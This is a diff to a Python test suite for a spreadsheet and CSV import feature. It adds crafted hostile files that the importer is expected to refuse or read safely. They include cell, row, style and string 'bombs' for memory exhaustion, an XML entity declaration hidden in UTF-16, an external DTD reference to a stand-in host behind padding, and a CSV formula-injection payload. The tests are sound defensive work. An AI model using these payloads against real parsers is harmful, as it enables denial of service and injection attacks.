@@ -1,6 +1,7 @@
 """Files that mean harm or have suffered it: refused with a sentence or read as what they say, and soon."""
 
 import io
+import random
 import time
 import zipfile
 from collections.abc import Callable
@@ -14,7 +15,7 @@ from openpyxl import Workbook
 
 from accounts.models import User
 from curation.models import Record
-from desk.importing import sheets, uploading
+from desk.importing import limits, uploading
 from desk.models import Batch
 from tests.pages import read
 from tests.people import browser
@@ -53,14 +54,14 @@ def book(*rows: list[Any], change: Callable[[Workbook], object] = lambda made: N
 
 
 def by_hand(
-    sheet: str, *, before: str = "", more: dict[str, bytes] | None = None, kind: str = "sheet"
+    sheet: str, *, before: str = "", more: dict[str, bytes] | None = None, size: str = "A1:A2"
 ) -> bytes:
     """The smallest workbook there is, with this in its sheet and this before the sheet's first element."""
     members: dict[str, bytes] = {
         "[Content_Types].xml": (
             f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels"'
             ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-            f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE}.{kind}.main+xml"/>'
+            f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE}.sheet.main+xml"/>'
             f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{OFFICE}.worksheet+xml"/></Types>'
         ).encode(),
         "_rels/.rels": (
@@ -77,7 +78,7 @@ def by_hand(
         ).encode(),
         "xl/worksheets/sheet1.xml": (
             f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}">'
-            f"<sheetData>{sheet}</sheetData></worksheet>"
+            f'<dimension ref="{size}"/><sheetData>{sheet}</sheetData></worksheet>'
         ).encode(),
     }
     out = io.BytesIO()
@@ -185,10 +186,91 @@ def zip_with_a_password() -> bytes:
     return bytes(made)
 
 
+def padded(sheet: str, **more: str) -> bytes:
+    """With as much noise beside it as keeps the file from unpacking to a hundred times its size."""
+    members = {f"xl/{name}.xml": content.encode() for name, content in more.items()}
+    return by_hand(sheet, more={"xl/media/a.bin": random.Random(1).randbytes(500_000), **members})
+
+
+def bomb_of_cells() -> bytes:
+    """Eight million cells in one row, which a reader makes eight million objects of."""
+    return padded(f'<row r="1">{"<c/>" * 8_000_000}</row>')
+
+
+def bomb_of_texts() -> bytes:
+    return padded(ROWS, sharedStrings=f'<sst xmlns="{MAIN}">{"<si/>" * 8_000_000}</sst>')
+
+
+def bomb_of_rows() -> bytes:
+    return padded("<row></row>" * 3_000_000)
+
+
+def bomb_of_styles() -> bytes:
+    """Each is a large object to a reader: half a minute and gigabytes."""
+    return padded(
+        ROWS, styles=f'<styleSheet xmlns="{MAIN}"><cellXfs>{"<xf/>" * 1_500_000}</cellXfs></styleSheet>'
+    )
+
+
+def bomb_of_far_cells() -> bytes:
+    """Nothing in the last column there is, in each row: a reader fills in three hundred million cells."""
+    return padded(ROWS + "".join(f'<row r="{n}"><c r="XFD{n}"/></row>' for n in range(3, 19_000)))
+
+
+def formulas_of_one_another() -> bytes:
+    """A long formula that hundreds of cells share, each of which a reader would work it out for."""
+    shared = '<f t="shared" si="0"/>'
+    formula = f'<f t="shared" si="0" ref="A2:A400">{"A1+" * 20_000}A1</f>'
+    rows = "".join(
+        f'<row r="{n}"><c r="A{n}" t="str">{formula if n == 2 else shared}<v>Bomben</v></c></row>'
+        for n in range(2, 400)
+    )
+    return padded(f'<row r="1">{cell("A1", "Dansk navn")}</row>{rows}')
+
+
+def packed_badly() -> bytes:
+    """The sheet's own bytes are none that can be unpacked, though the list of members is sound."""
+    made = bytearray(by_hand(ROWS))
+    at = made.find(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
+    made[at : at + 20] = b"\xff" * 20
+    return bytes(made)
+
+
+def name_that_is_no_text() -> bytes:
+    """A member whose name says it is UTF-8 and is not."""
+    made = bytearray(by_hand(ROWS, more={"xl/ø.bin": b"x"}))
+    for at in (made.find("ø".encode()), made.rfind("ø".encode())):
+        made[at : at + 2] = b"\xff\xff"
+    return bytes(made)
+
+
+def string_that_is_nowhere() -> bytes:
+    return by_hand('<row r="1"><c r="A1" t="s"><v>99</v></c></row>')
+
+
+def laughs_in_other_letters() -> bytes:
+    """Instructions in UTF-16, which nobody finds who looks for them as they are mostly written."""
+    told = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "ha">]>'
+    strings = f'{told}<sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
+    return by_hand(ROWS, more={"xl/sharedStrings.xml": strings.encode("utf-16")})
+
+
+def instructions_far_down() -> bytes:
+    told = f'<!--{" " * 3000}--><!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'
+    return by_hand(ROWS, before=told)
+
+
+def empty_rows() -> bytes:
+    return b"Dansk navn\nEn\n" + b"\n" * 9_000_000
+
+
 HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "bomb of size": ("a.xlsx", bomb_of_size, "unpacks to more"),
     "bomb of members": ("a.xlsx", bomb_of_members, "unpacks to more"),
     "bomb of ratio": ("a.xlsx", bomb_of_ratio, "unpacks to more"),
+    "bomb of cells": ("a.xlsx", bomb_of_cells, "unpacks to more"),
+    "bomb of texts": ("a.xlsx", bomb_of_texts, "unpacks to more"),
+    "bomb of rows": ("a.xlsx", bomb_of_rows, "unpacks to more"),
     "file of this machine": ("a.xlsx", file_of_this_machine, "instructions"),
     "billion laughs": ("a.xlsx", billion_laughs, "instructions"),
     "entity in another member": ("a.xlsx", shared_strings_of_this_machine, "instructions"),
@@ -211,6 +293,14 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "white space": ("a.csv", lambda: b" \r\n\t\r\n", "is empty"),
     "only headings": ("a.csv", "Dansk navn;Kilde\n".encode, "no rows"),
     "headings twice": ("a.csv", lambda: b"Navn;NAVN\na;b\n", "Two columns"),
+    "packed badly": ("a.xlsx", packed_badly, "cannot be read"),
+    "a name that is no text": ("a.xlsx", name_that_is_no_text, "cannot be read"),
+    "a string that is nowhere": ("a.xlsx", string_that_is_nowhere, "cannot be read"),
+    "laughs in other letters": ("a.xlsx", laughs_in_other_letters, "instructions"),
+    "bomb of styles": ("a.xlsx", bomb_of_styles, "unpacks to more"),
+    "bomb of far cells": ("a.xlsx", bomb_of_far_cells, "unpacks to more"),
+    "instructions far down": ("a.xlsx", instructions_far_down, "instructions"),
+    "empty rows": ("a.csv", empty_rows, "more than 10,000 rows"),
     "quotes never closed": ("a.csv", lambda: b'Navn;Kilde\n"a;b\n' * 5000, "cannot be read"),
 }
 
@@ -230,8 +320,17 @@ def test_what_is_refused_is_refused_soon_and_says_why(desk: Client, name: str) -
     assert (Batch.objects.count(), Record.objects.count()) == (0, 0)
 
 
+def a_million_rows_of_nothing() -> bytes:
+    """A sheet that says it is as large as a sheet can be, as one has whose every row was painted once."""
+    rows = "".join(f'<row r="{number}">{cell(f"A{number}", "Bomben")}</row>' for number in range(2, 400))
+    return by_hand(f'<row r="1">{cell("A1", "Dansk navn")}</row>{rows}', size="A1:XFD1048576")
+
+
 READ: dict[str, tuple[str, Callable[[], bytes], str]] = {
+    "a size that is not so": ("a.xlsx", lambda: by_hand(ROWS, size="A1"), "Bomben"),
+    "a million rows of nothing": ("a.xlsx", a_million_rows_of_nothing, "Bomben"),
     "formula with a value": ("a.xlsx", formula_with_a_value, "Vist"),
+    "formulas of one another": ("a.xlsx", formulas_of_one_another, "Bomben"),
     "external link": ("a.xlsx", external_link, "Bomben"),
     "macros": ("a.xlsm", macros, "Bomben"),
     "formula in text": ("a.csv", "Dansk navn\n=cmd|'/c calc'!A1\n".encode, "=cmd|'/c calc'!A1"),
@@ -247,7 +346,7 @@ def test_what_is_harmless_is_read_as_what_it_says(desk: Client, name: str) -> No
     response = sent(desk, file_name, content)
     assert time.process_time() - began < SOON
     assert response.status_code == 302
-    (row,) = Batch.objects.get().rows.all()
+    row = Batch.objects.get().rows.order_by("number")[0]
     assert said in row.cells[0]
     page = desk.get(f"/en/desk/import/{row.batch_id}/", {"show": "all"})
     assert said in read(page).by_id(f"row-{row.number}").text
@@ -322,5 +421,5 @@ def test_a_file_that_is_too_large_is_not_kept_and_the_form_is(
 
 def test_limits_are_those_of_the_reader() -> None:
     """The page says 10 MB."""
-    assert sheets.MOST_BYTES == 10 * 1024 * 1024
+    assert limits.MOST_BYTES == 10 * 1024 * 1024
     assert [f"{uploading.__name__}.BoundedUploadHandler"] == settings.FILE_UPLOAD_HANDLERS
